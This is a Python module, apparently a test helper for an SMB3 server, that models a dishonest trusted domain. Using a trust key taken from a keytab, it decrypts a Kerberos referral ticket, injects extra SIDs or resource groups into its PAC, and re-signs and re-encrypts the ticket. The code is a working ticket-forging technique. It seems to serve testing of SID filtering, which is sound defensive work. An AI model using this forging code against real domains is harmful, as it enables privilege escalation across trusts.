"""The referral that a controller gives a user for a trusting domain, changed as a dishonest one could. [MS-PAC 4.2]

Whoever controls a trusted domain has the key of the trust, and signs what it likes. The trusting domain's controllers
cannot verify the other signatures, which are made with the trusted domain's own key.
"""

from __future__ import annotations

import importlib
import os
import struct
import warnings
from collections.abc import Callable
from pathlib import Path
from typing import Any

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from impacket.dcerpc.v5.dtypes import PRPC_SID
    from impacket.dcerpc.v5.nrpc import GROUP_MEMBERSHIP, PGROUP_MEMBERSHIP_ARRAY
    from impacket.krb5 import asn1, crypto, pac
    from impacket.krb5.ccache import CCache
    from impacket.krb5.keytab import Keytab

from smb3server.domain.pac import KDC_CHECKSUM, LOGON_INFO, SERVER_CHECKSUM

decoder: Any = importlib.import_module("pyasn1.codec.der.decoder")
encoder: Any = importlib.import_module("pyasn1.codec.der.encoder")

_AES256, _SIGNATURE_TYPE, _SIGNATURE_SIZE = 18, 16, 12
GLOBAL, LOCAL = 0x7, 0x20000007
"""Attributes of groups: with SE_GROUP_RESOURCE it is a domain-local one. [MS-PAC 2.2.1]"""
_HAS_EXTRA_SIDS, _HAS_RESOURCE_GROUPS = 0x20, 0x200
_TICKET_USAGE, _SIGNATURE_USAGE = 2, 17
Change = Callable[[Any], None]
"""Alters a KERB_VALIDATION_INFO."""


def in_groups(*sids: str, attributes: int = GLOBAL) -> Change:
    """Return a change that puts the user in further groups, of any domain. [MS-PAC 2.2.2]"""

    def change(info: Any) -> None:
        info["UserFlags"] = int(info["UserFlags"]) | _HAS_EXTRA_SIDS
        for sid in sids:
            entry = pac.KERB_SID_AND_ATTRIBUTES()
            entry["Sid"].fromCanonical(sid)
            entry["Attributes"] = attributes
            info["ExtraSids"].append(entry)
        info["SidCount"] = len(info["ExtraSids"])

    return change


def in_local_group(domain: str, number: int) -> Change:
    """Return a change that puts the user in a domain-local group, as the trusting domain's KDC does. [MS-PAC 2.5]"""

    def change(info: Any) -> None:
        entry = GROUP_MEMBERSHIP()
        entry["RelativeId"], entry["Attributes"] = number, LOCAL
        info["UserFlags"] = int(info["UserFlags"]) | _HAS_RESOURCE_GROUPS
        # impacket gives no value to what was NULL.
        info.fields["ResourceGroupDomainSid"], info.fields["ResourceGroupIds"] = PRPC_SID(), PGROUP_MEMBERSHIP_ARRAY()
        info["ResourceGroupDomainSid"].fromCanonical(domain)
        info["ResourceGroupIds"], info["ResourceGroupCount"] = [entry], 1

    return change


def trust_key(keytab: Path, principal: str) -> Any:
    """Return the AES-256 key that a keytab has for a principal."""
    for entry in Keytab.loadFile(str(keytab)).entries:
        block = entry.main_part["keyblock"]
        if entry.main_part["principal"].prettyPrint() == principal.encode() and block["keytype"] == _AES256:
            return crypto.Key(_AES256, bytes(block["keyvalue"]["data"]))
    raise LookupError(principal)


def change_referral(cache: Path, changed: Path, key: Any, change: Change) -> None:
    """Write the tickets of another cache for controllers, the PAC of the referral changed."""
    found = CCache.loadFile(str(cache))
    (referral,) = (one for one in found.credentials if one["server"].prettyPrint().startswith(b"krbtgt/EXAMPLE"))
    ticket = decoder.decode(referral.ticket["data"], asn1Spec=asn1.Ticket())[0]
    plain = crypto.decrypt(key, _TICKET_USAGE, bytes(ticket["enc-part"]["cipher"]))
    sealed = decoder.decode(plain, asn1Spec=asn1.EncTicketPart())[0]
    entry = sealed["authorization-data"][0]
    inner = decoder.decode(bytes(entry["ad-data"]), asn1Spec=asn1.AD_IF_RELEVANT())[0]
    inner[0]["ad-data"] = _signed(_with_info(_parts(bytes(inner[0]["ad-data"])), change), key)
    entry["ad-data"] = encoder.encode(inner)
    ticket["enc-part"]["cipher"] = crypto.encrypt(key, _TICKET_USAGE, encoder.encode(sealed), os.urandom(16))
    referral.ticket["data"] = made = encoder.encode(ticket)
    referral.ticket["length"] = len(made)
    found.credentials = [one for one in found.credentials if one["server"].prettyPrint().startswith(b"krbtgt/")]
    found.saveFile(str(changed))


def _parts(data: bytes) -> list[tuple[int, bytes]]:
    """Return types and contents of a PAC's buffers. [MS-PAC 2.3]"""
    (count,) = struct.unpack_from("<I", data)
    entries = (struct.unpack_from("<IIQ", data, 8 + 16 * number) for number in range(count))
    return [(kind, data[offset : offset + size]) for kind, size, offset in entries]


def _with_info(parts: list[tuple[int, bytes]], change: Change) -> list[tuple[int, bytes]]:
    """Return the buffers with changed logon information."""
    made = []
    for kind, content in parts:
        if kind == LOGON_INFO:
            info = pac.VALIDATION_INFO()
            info.fromString(content)
            info.fromStringReferents(content[len(info.getData()) :])
            change(info["Data"])
            content = info.getData() + info.getDataReferents()
        made.append((kind, content))
    return made


def _signed(parts: list[tuple[int, bytes]], key: Any) -> bytes:
    """Return a PAC of these buffers, signed as by the trusted domain. [MS-PAC 2.8]"""
    empty = struct.pack("<I", _SIGNATURE_TYPE) + bytes(_SIGNATURE_SIZE)
    contents = [(kind, empty if kind in (SERVER_CHECKSUM, KDC_CHECKSUM) else content) for kind, content in parts]
    table, body, places = b"", b"", {}
    for kind, content in contents:
        offset = 8 + 16 * len(contents) + len(body)
        places[kind] = offset + 4
        table += struct.pack("<IIQ", kind, len(content), offset)
        body += content + bytes(-len(content) % 8)
    data = bytearray(struct.pack("<II", len(contents), 0) + table + body)
    signature = crypto.make_checksum(_SIGNATURE_TYPE, key, _SIGNATURE_USAGE, bytes(data))
    data[places[SERVER_CHECKSUM] : places[SERVER_CHECKSUM] + _SIGNATURE_SIZE] = signature
    return bytes(data)
